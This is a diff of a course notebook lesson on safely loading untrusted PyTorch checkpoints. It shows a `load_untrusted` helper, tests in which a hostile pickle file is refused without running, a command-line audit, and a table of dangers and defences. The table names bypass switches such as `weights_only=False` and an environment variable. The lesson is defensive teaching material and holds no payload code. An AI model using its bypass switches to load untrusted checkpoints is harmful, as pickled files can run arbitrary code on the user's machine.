+    alt="Two stacked bars. Both files hold the same number of bytes of numbers; the rest, the pickle "
+    "and the zip's records, is several times larger in the .pt file than the header of the other.",
+    caption="The same numbers twice. The rest is a program in an archive here, and a list of names there.",
+)
+lesson.show_table(
+    [(name, f"{numbers:,}", f"{rest:,}") for name, (numbers, rest) in sizes.items()],
+    ["file", "bytes of numbers", "bytes of all the rest"],
 )
 
-raw = (scratch / "small.safetensors").read_bytes()
-(length,) = struct.unpack("<Q", raw[:8])
-header = json.loads(raw[8 : 8 + length])
-for name, entry in header.items():
-    print(f"{name:14} {entry}")
-start, stop = header["w"]["data_offsets"]
-print("w by hand:", struct.unpack("<4f", raw[8 + length + start : 8 + length + stop]))
-
 # %% [markdown]
-# It is strict as well: overlapping or missing bytes, or a header that does not fit, are errors. What it lacks is a
-# checksum, and anything that is not a tensor or a text. And it refuses tensors that share memory:
-
-# %%
-weight = torch.rand(4, 2)
-tied = {"encoder.weight": weight, "decoder.weight": weight}
-with lesson.expect_error(RuntimeError, match=r"(?s)\s*Some tensors share memory"):
-    save_file(tied, scratch / "tied.safetensors")
-
-# %% [markdown]
-# `convert` makes a safetensors file of a checkpoint **without running it**: it reads the pickle as `audit` does and
-# copies the numbers, block by block. Shared tensors are written once and listed in the metadata; plain numbers and
-# texts go there, too.
-
-# %%
-from course_utils.convert import convert
-
-torch.save({"model": tied, "epoch": 7, "note": "best so far"}, scratch / "checkpoint.pt")
-report = convert(scratch / "checkpoint.pt", scratch / "checkpoint.safetensors")
-print("tensors written:", report.tensors)
-print("the same tensor:", report.shared)
-print("values kept:    ", report.values)
-assert torch.equal(load_file(scratch / "checkpoint.safetensors")["model.encoder.weight"], weight)
-
-# %% [markdown]
-# ## 6. The rule for strangers' files
+# ## 6. In practice
 #
-# `load_untrusted` puts it together: audit, verify, load with `weights_only`, and drop whatever is not plain data.
+# `load_untrusted` puts the lesson into one call: audit, compare every checksum, load with torch's
+# weights-only unpickler, and drop what is more than plain data.
 
 # %%
 lesson.show_source(load_untrusted)
 
 # %%
-state = load_untrusted(scratch / "files" / "honest.pt")
-print("honest: ", state)
-for name in ("payload.pt", "nested.pt", "two_in_one.pt", "with_numpy.pt"):
-    with lesson.expect_error(
-        UnsafeCheckpointError, match=r"[\w.]+: (would run code|needs these globals)"
-    ):
-        load_untrusted(scratch / "files" / name)
-ran = code_has_run()
-print("code has run:", ran)
-assert not ran
+state = load_untrusted(honest)
+print("honest file:", state["note"], "·", len(state["model"]), "tensors")
+with lesson.expect_error(UnsafeCheckpointError, match="would run code"):
+    load_untrusted(hostile)
+assert not attack_ran()
+
+# %% [markdown]
+# The same from the command line, for scripts: the exit status says whether to go on. The command `ckpt`
+# can do more: `inspect`, `verify`, `diff A B`, `doctor`, `convert`, `strip-prefix`, `slim`.
+
+# %%
+for path in (honest, hostile):
+    command = [sys.executable, "-m", "course_utils", "audit", path.as_posix()]
+    done = subprocess.run(command, capture_output=True, text=True)
+    print(f"$ ckpt audit {path.as_posix()}\n{done.stdout}exit status {done.returncode}\n")
+assert not attack_ran()
 
 # %% [markdown]
 # ## In short
 #
-# | situation | do |
+# | danger | defence |
 # |---|---|
-# | your own files | plain types only; `load_checkpoint` |
-# | a friend's file that needs a class | `safe_globals([that class])` for one load, after `audit` |
-# | a stranger's file | `audit`, then `load_untrusted`; or `convert` to safetensors |
-# | "just pass weights_only=False" | do not |
-# | a start script with `TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD` | remove it |
-# | bits that flip | verify checksums |
-# | people who flip bits | compare a SHA-256 from a source you trust |
+# | loading runs code | leave `weights_only` alone; never `pickle_module`, never the environment variable |
+# | the error asks for `safe_globals` | only for classes you know; else `audit`, or convert |
+# | a pickle in disguise | read all of it, not only its names; it runs before it ends |
+# | an archive that two programs read differently | refuse it |
+# | `.pt2`, TorchScript | they are programs: audit, or build them yourself |
+# | a flipped bit | compare the checksums: `load_checkpoint`, `ckpt verify` |
+# | a file that was exchanged | compare its SHA-256 with a published one |
+# | you publish weights | safetensors |
 #
-# **Your turn:** [the exercises of this lesson](exercises/06_untrusted_files.ipynb). Then
-# [07 Checkpoints that survive](07_checkpoints_that_survive.ipynb).
+# **Your turn:** [exercises for this lesson](exercises/06_untrusted_files.ipynb).
 #
-# Further reading: [`torch.load`](https://docs.pytorch.org/docs/stable/generated/torch.load.html) and
-# [its notes on weights_only](https://docs.pytorch.org/docs/stable/notes/serialization.html#weights-only-security) (default
-# since 2.6); [the safetensors format](https://github.com/huggingface/safetensors#format);
-# [pickle's own warning](https://docs.python.org/3/library/pickle.html).
+# Further reading: [`torch.load`](https://docs.pytorch.org/docs/stable/generated/torch.load.html) and its
+# [notes on weights_only](https://docs.pytorch.org/docs/stable/notes/serialization.html);
+# [the safetensors format](https://huggingface.co/docs/safetensors); Slaviero,
+# [Sour Pickles](https://media.blackhat.com/bh-us-11/Slaviero/BH_US_11_Slaviero_Sour_Pickles_WP.pdf)
+# (Black Hat 2011), still the best text on what a pickle can do. What torch lets pass was seen with
+# PyTorch 2.14.
